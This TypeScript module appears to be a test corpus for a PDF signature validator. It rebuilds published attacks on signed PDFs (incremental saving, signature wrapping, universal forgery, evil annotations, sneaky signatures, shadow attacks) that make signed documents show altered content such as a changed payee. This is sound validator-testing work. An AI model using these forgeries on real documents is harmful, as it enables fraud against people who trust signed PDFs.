/**
 * The published attacks on signed PDFs, rebuilt. Each mechanism has three encodings from plain to hidden. The sources
 * are "1 Trillion Dollar Refund" (CCS 2019: ISA, SWA, USF), "Shadow Attacks" (NDSS 2021) and "Breaking the
 * Specification" (S&P 2021: EAA, SSA).
 */
import { type BuiltObject, buildPdf, helloPage } from './pdf.ts';
import { signPdf, type SignOptions } from './signed-pdf.ts';
import { createSigner } from './signer.ts';
import { appendPacked, bytesOf, textOf, written } from './packed-update.ts';
import { appendUpdate, lastStartXref } from './update.ts';

export type Objects = Readonly<Record<number, BuiltObject>>;

export interface SignatureAttack {
  readonly family: 'ISA' | 'SWA' | 'USF' | 'EAA' | 'SSA' | 'shadow';
  readonly name: string;
  readonly build: () => Uint8Array;
}

export interface ShadowAttack {
  readonly name: string;
  /** The signed document, which contains all content but does not show all of it. */
  readonly prepared: () => Uint8Array;
  readonly sprung: () => Uint8Array;
}

const ada = createSigner();
export const RESOURCES = '/Resources<</Font<</F1 5 0 R>>>>';
export const PAY: BuiltObject = { stream: 'BT /F1 24 Tf 72 700 Td (Pay 1,000,000) Tj ET' };
export const PAID_LOOK: BuiltObject = {
  dict: `/Type/XObject/Subtype/Form/BBox[0 0 300 60]${RESOURCES}`,
  stream: '1 g 0 0 300 60 re f 0 g BT /F1 24 Tf 2 10 Td (Pay 1,000,000) Tj ET',
};
export const OVER_TEXT = '/Rect[60 680 360 740]/F 4';

export const certified = (level: number): SignOptions => ({
  catalog: '/Perms<</DocMDP 11 0 R>>',
  entries: `/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</P ${level}/V/1.2>>>>]`,
});
export const pageWith = (annotations: string, entries = '/Contents 4 0 R'): string =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]${entries}${RESOURCES}/Annots[${annotations}]>>`;
export const form = (fields: string, entries = ''): string =>
  `<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[${fields}]>>${entries}>>`;
export const sign = (objects: Objects = {}, options: SignOptions = {}): Uint8Array =>
  signPdf(helloPage('Pay one hundred'), ada, { ...options, objects });

const append = (pdf: Uint8Array, text: string): Uint8Array => bytesOf(textOf(pdf) + text);

/** Incremental saving (ISA): an update after the signature exchanges content. */
const ISA: readonly SignatureAttack[] = [
  isa('other content in an update', () => appendUpdate(sign(), { 4: PAY })),
  isa('other content in an object stream, over a new page, in two revisions', () => {
    const once = appendUpdate(sign(), { 40: PAY });
    return appendPacked(once, { 3: pageWith('10 0 R', '/Contents 40 0 R') });
  }),
  isa('other content in an update whose cross-reference is broken', () =>
    bytesOf(textOf(appendUpdate(sign(), { 4: PAY })).replace(/startxref\n\d+\n%%EOF\n$/, 'startxref\n7\n%%EOF\n')),
  ),
  isa('objects without a cross-reference', () => append(sign(), written(4, PAY))),
  isa('objects and a trailer without a cross-reference', () =>
    append(sign(), `${written(4, PAY)}trailer\n<</Root 1 0 R/Size 12>>\n`),
  ),
  isa('objects behind a comment sign, with a startxref of their own', () => {
    const signed = sign();
    return append(signed, `%\r${written(4, PAY)}startxref\n${lastStartXref(signed)}\n%%EOF\n`);
  }),
  isa('a copy of the signature, which covers the same bytes', () => {
    const signed = sign();
    const [value = ''] = /11 0 obj\n<<\/Type\/Sig[^]*?>>\nendobj\n/.exec(textOf(signed)) ?? [];
    const copy = value.slice('11 0 obj\n'.length, -'\nendobj\n'.length);
    return appendUpdate(signed, { 4: PAY, 11: copy });
  }),
];

function isa(name: string, build: () => Uint8Array): SignatureAttack {
  return { family: 'ISA', name, build };
}

/** Wrapping (SWA): the signed content is moved, and other content takes its position. */
const SWA: readonly SignatureAttack[] = [
  { family: 'SWA', name: 'a gap with objects of its own', build: () => wrapped(0) },
  { family: 'SWA', name: 'a gap filled up with blanks', build: () => wrapped(400) },
  { family: 'SWA', name: 'a gap with a comment before and behind the objects', build: () => wrapped(40, '%hidden\n') },
];

/** The second signed part is moved to the end. New objects and their table stand between it and the signature. */
function wrapped(padding: number, comment = ''): Uint8Array {
  const text = textOf(sign());
  const [whole = '', , end = '', length = ''] = /\/ByteRange\[0 (\d+) (\d+) (\d+)\]/.exec(text) ?? [];
  const tail = text.slice(Number(end));
  const head = text.slice(0, Number(end));
  const content = comment + written(4, PAY) + comment;
  const at = head.length + '>>\nendobj\n'.length + comment.length;
  const rows = `4 1\n${String(at).padStart(10, '0')} 00000 n \n`;
  const table = head.length + '>>\nendobj\n'.length + content.length;
  const previous = lastStartXref(sign());
  const trailer = `xref\n${rows}trailer\n<</Root 1 0 R/Size 100/Prev ${previous}>>\nstartxref\n${table}\n%%EOF\n`;
  const inserted = `>>\nendobj\n${content}${trailer}${' '.repeat(padding)}`;
  const moved = `/ByteRange[0 ${Number(/\/ByteRange\[0 (\d+)/.exec(text)?.[1])} ${head.length + inserted.length} ${Number(length)}]`;
  return bytesOf(head.replace(whole, moved.padEnd(whole.length)) + inserted + tail);
}

export const RANGES: readonly (readonly [name: string, value: string])[] = [
  ['no /ByteRange', ''],
  ['an empty /ByteRange', '/ByteRange[]'],
  ['a /ByteRange of null', '/ByteRange null'],
  ['a /ByteRange of zeros', '/ByteRange[0 0 0 0]'],
  ['a negative /ByteRange', '/ByteRange[-1 -1 -1 -1]'],
  ['a /ByteRange beyond the file', '/ByteRange[0 10 20 99999999]'],
  ['a /ByteRange of one number', '/ByteRange[0]'],
];
export const CONTENTS: readonly (readonly [name: string, value: string])[] = [
  ['no /Contents', ''],
  ['an empty /Contents', '/Contents<>'],
  ['a /Contents of null', '/Contents null'],
  ['a /Contents of one zero', '/Contents<00>'],
];

/** Universal forgery (USF): a signature without the data for its verification, in three variants. */
const USF: readonly SignatureAttack[] = [...RANGES, ...CONTENTS].flatMap(([name, value]) => {
  const range = name.includes('ByteRange') ? value : '/ByteRange[0 100 200 300]';
  const contents = name.includes('Contents') ? value : `/Contents<${'3082'.repeat(300)}>`;
  const dict = `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached${range}${contents}>>`;
  const renamed = dict.replace('/ByteRange', '/Byte#52ange').replace('/Contents', '/C#6fntents');
  const fields = { 1: form('10 0 R'), 3: pageWith('10 0 R') };
  const widget = (signature: string): string =>
    `<</FT/Sig/T(Signature1)/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 3 0 R/V ${signature}>>`;
  return [
    usf(name, () => helloPage('Pay', { ...fields, 10: widget('11 0 R'), 11: dict })),
    usf(`${name}, with its names spelled in hex, in the field itself`, () =>
      helloPage('Pay', { ...fields, 10: widget(renamed) }),
    ),
    usf(`${name}, in an object stream`, () =>
      appendPacked(helloPage('Pay'), { ...fields, 10: widget('11 0 R'), 11: renamed }),
    ),
  ];
});

function usf(name: string, build: () => Uint8Array): SignatureAttack {
  return { family: 'USF', name, build };
}

/** Evil annotations (EAA): a certification that allows notes gets a note that covers the page. */
const EAA: readonly SignatureAttack[] = ['FreeText', 'Stamp', 'Redact', 'Square', 'Ink', 'Text'].flatMap((subtype) => {
  const annotation = `<</Type/Annot/Subtype/${subtype}${OVER_TEXT}/AP<</N 41 0 R>>>>`;
  const signed = (): Uint8Array => sign({}, certified(3));
  const page = pageWith('10 0 R 40 0 R');
  return [
    eaa(subtype, () => appendUpdate(signed(), { 3: page, 40: annotation, 41: PAID_LOOK })),
    eaa(`${subtype}, added empty and drawn in a further revision, in an object stream`, () => {
      const bare = `<</Type/Annot/Subtype/${subtype}${OVER_TEXT}>>`;
      return appendPacked(appendUpdate(signed(), { 3: page, 40: bare }), { 40: annotation }, { 41: PAID_LOOK });
    }),
    eaa(`${subtype}, a note that becomes one, its name in hex`, () => {
      const note = '<</Type/Annot/Subtype/Text/Rect[0 0 9 9]>>';
      const spelling = `/#${(subtype.codePointAt(0) ?? 0).toString(16)}${subtype.slice(1)}`;
      const noted = sign({ 3: page, 40: note }, certified(3));
      return appendUpdate(noted, { 40: annotation.replace(`/${subtype}`, spelling), 41: PAID_LOOK });
    }),
  ];
});

function eaa(name: string, build: () => Uint8Array): SignatureAttack {
  return { family: 'EAA', name, build };
}

/** Sneaky signatures (SSA): a certification that allows signatures gets one that shows other content. */
const SSA: readonly SignatureAttack[] = [
  ...[2, 3].flatMap((level) => sneaky(`certified at level ${level}`, certified(level))),
  ...sneaky('signed for approval', {}),
  {
    family: 'SSA',
    name: 'a signature field that shows a text and is never signed, in an object stream',
    build: () =>
      appendPacked(
        sign({}, certified(2)),
        {
          1: form('10 0 R 20 0 R', '/Perms<</DocMDP 11 0 R>>'),
          3: pageWith('10 0 R 20 0 R'),
          20: `<</FT/Sig/T(Second)/Type/Annot/Subtype/Widget${OVER_TEXT}/P 3 0 R/AP<</N 31 0 R>>>>`,
        },
        { 31: PAID_LOOK },
      ),
  },
];

/** A second signature over signed text: plain, with its names in hex, or with an appearance from a further revision. */
function sneaky(name: string, first: SignOptions): SignatureAttack[] {
  const catalog = first.catalog === undefined ? {} : { catalog: first.catalog };
  const second = (look: string, objects: Objects): Uint8Array =>
    signPdf(sign({}, first), ada, {
      name: 'Second',
      field: 20,
      earlier: [10],
      rect: `[60 680 360 740]${look}`,
      ...catalog,
      objects,
    });
  const plain = (): Uint8Array => second('/AP<</N 31 0 R>>', { 31: PAID_LOOK });
  const hex = (): Uint8Array => second('/A#50<</#4e 31 0 R>>', { 31: PAID_LOOK });
  const later = (): Uint8Array =>
    appendUpdate(second('/AP<</N 31 0 R>>', { 31: { dict: '/Subtype/Form/BBox[0 0 300 60]', stream: '' } }), {
      31: PAID_LOOK,
    });
  return [
    { family: 'SSA', name: `${name}: over the text`, build: plain },
    { family: 'SSA', name: `${name}: over the text, its names in hex`, build: hex },
    { family: 'SSA', name: `${name}: over the text, drawn in a further revision`, build: later },
  ];
}

export const SIGNATURE_ATTACKS: readonly SignatureAttack[] = [...ISA, ...SWA, ...USF, ...EAA, ...SSA];

export const lookOf = (text: string, background = '.8 .843 1 rg 0 0 300 20 re f '): BuiltObject => ({
  dict: `/Type/XObject/Subtype/Form/BBox[0 0 300 20]${RESOURCES}`,
  stream: `${background}/Tx BMC q BT 0 g /F1 12 Tf 0 8 Td (${text}) Tj ET Q EMC`,
});
export const textField = (name: string, value: string, look: number, rect = '220 445 520 465'): string =>
  `<</FT/Tx/T(${name})/V(${value})/Type/Annot/Subtype/Widget/F 4/P 3 0 R/Rect[${rect}]/AP<</N ${look} 0 R>>>>`;
const IMAGE: BuiltObject = {
  dict: '/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray',
  stream: 'x',
};
const XMP: BuiltObject = { dict: '/Type/Metadata/Subtype/XML', stream: '<x/>' };

/** Page text under an image that covers all of it. */
const overlaid = (): Uint8Array =>
  sign({
    1: form('10 0 R', '/Metadata 32 0 R'),
    3: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Annots[10 0 R]/Resources<</Font<</F1 5 0 R>>/XObject<</I 30 0 R>>>>>>`,
    4: { stream: 'BT /F1 24 Tf 72 700 Td (You are fired) Tj ET q 612 0 0 792 0 0 cm /I Do Q' },
    30: IMAGE,
    32: XMP,
  });

/** An update whose table states the positions of objects, whatever stands there. */
function redirected(
  pdf: Uint8Array,
  objects: Objects,
  entries: Readonly<Record<number, (file: string) => number>>,
): Uint8Array {
  const updated = textOf(appendUpdate(pdf, objects));
  const at = updated.lastIndexOf('\nxref\n') + 1;
  const rows = Object.entries(entries).map(
    ([number, place]) => `${number} 1\n${String(place(updated)).padStart(10, '0')} 00000 n \n`,
  );
  return bytesOf(updated.slice(0, at) + updated.slice(at).replace('xref\n', `xref\n${rows.join('')}`));
}

const fieldOverText = (): Uint8Array =>
  sign({
    3: pageWith('10 0 R 30 0 R'),
    4: { stream: 'BT /F1 12 Tf 225 450 Td (Attacker) Tj ET' },
    30: textField('recipient', 'UNICEF', 31),
    31: lookOf('UNICEF'),
  });
const fieldOverField = (): Uint8Array =>
  sign({
    3: pageWith('10 0 R 30 0 R 32 0 R'),
    30: textField('recipient', 'UNICEF', 31),
    31: lookOf('UNICEF'),
    32: textField('recipient', 'Attacker', 33),
    33: lookOf('Attacker'),
  });
const wrongValue = (): Uint8Array =>
  sign({
    3: pageWith('10 0 R 30 0 R'),
    30: textField('recipient', 'Attacker', 31),
    31: lookOf('World Health Organisation'),
  });

/** Two page trees with one number. The cross-reference leads to the first. */
const twoTrees = (): Uint8Array => {
  const base = buildPdf({
    1: '<</Type/Catalog/Pages 2 0 R>>',
    2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    3: pageWith(''),
    4: { stream: 'BT /F1 24 Tf 72 700 Td (Sign me to get a reward) Tj ET' },
    5: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    40: { stream: 'BT /F1 24 Tf 72 700 Td (You are fired) Tj ET' },
    41: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 40 0 R${RESOURCES}>>`,
    42: '<</Type/Pages/Kids[41 0 R]/Count 1>>',
  });
  return signPdf(bytesOf(textOf(base).replace('42 0 obj\n', '2 0 obj \n')), ada);
};
/** A field that the page lists and the cross-reference marks as free. */
const freedField = (): Uint8Array => {
  const objects = {
    3: pageWith('10 0 R 30 0 R 32 0 R'),
    30: textField('amount', '1000 USD', 31),
    31: lookOf('1000 USD'),
    32: textField('reward', 'You are fired', 33, '220 400 520 420'),
    33: lookOf('You are fired'),
  };
  const base = textOf(helloPage('Your reward', objects)).replace(/32 1\n(\d{10}) 00000 n/, '32 1\n$1 00000 f');
  return signPdf(bytesOf(base), ada, { objects: { 3: pageWith('10 0 R 30 0 R 32 0 R') } });
};
const ownFont = (): Uint8Array =>
  sign({
    5: '<</Type/Font/Subtype/TrueType/BaseFont/Times/FontDescriptor 30 0 R/FirstChar 48/LastChar 57/Widths[1 1 1 1 1 1 1 1 1 1]>>',
    30: '<</Type/FontDescriptor/FontName/Times/Flags 32/FontFile2 31 0 R>>',
    31: { stream: 'glyphs of the first font' },
  });

/**
 * The eight published proofs of concept, such as three that hide content by a reference, one for each kind of field.
 */
export const SHADOW_ATTACKS: readonly ShadowAttack[] = [
  {
    name: 'hide: an image over text leads to metadata',
    prepared: overlaid,
    sprung: () => redirected(overlaid(), { 32: XMP }, { 30: (file) => file.lastIndexOf('32 0 obj') }),
  },
  {
    name: 'hide: an image over text is metadata, under the number of the image',
    prepared: overlaid,
    sprung: () => redirected(overlaid(), { 30: XMP }, { 32: (file) => file.lastIndexOf('30 0 obj') }),
  },
  {
    name: 'hide: a field over text becomes an empty object',
    prepared: fieldOverText,
    sprung: () => appendUpdate(fieldOverText(), { 30: '<< >>' }),
  },
  {
    name: 'hide: fields over fields are written anew, with places that are wrong',
    prepared: fieldOverField,
    sprung: () =>
      bytesOf(
        textOf(
          appendUpdate(fieldOverField(), {
            32: textField('recipient', 'Attacker', 33),
            30: textField('recipient', 'UNICEF', 31),
          }),
        ).replace(/(30 1\n)\d{10}(?=[^]{1,200}$)/, '$10000000099'),
      ),
  },
  {
    name: 'replace: the look of a field becomes its value',
    prepared: wrongValue,
    sprung: () => appendUpdate(wrongValue(), { 31: lookOf('Attacker') }),
  },
  {
    name: 'replace: a font program gets other glyphs',
    prepared: ownFont,
    sprung: () => appendUpdate(ownFont(), { 31: { stream: 'glyphs of the second' } }),
  },
  {
    name: 'hide and replace: the page tree is the other one',
    prepared: twoTrees,
    sprung: () => redirected(twoTrees(), {}, { 2: (file) => file.indexOf('2 0 obj ') }),
  },
  {
    name: 'hide and replace: one field is freed, another one taken into use',
    prepared: freedField,
    sprung: () => {
      const freed = textOf(appendUpdate(freedField(), {}, { freed: [30, 31] }));
      const at = freed.lastIndexOf('\nxref\n') + 1;
      const row = `32 1\n${String(freed.indexOf('32 0 obj')).padStart(10, '0')} 00000 n \n`;
      return bytesOf(freed.slice(0, at) + freed.slice(at).replace('xref\n', `xref\n${row}`));
    },
  },
];
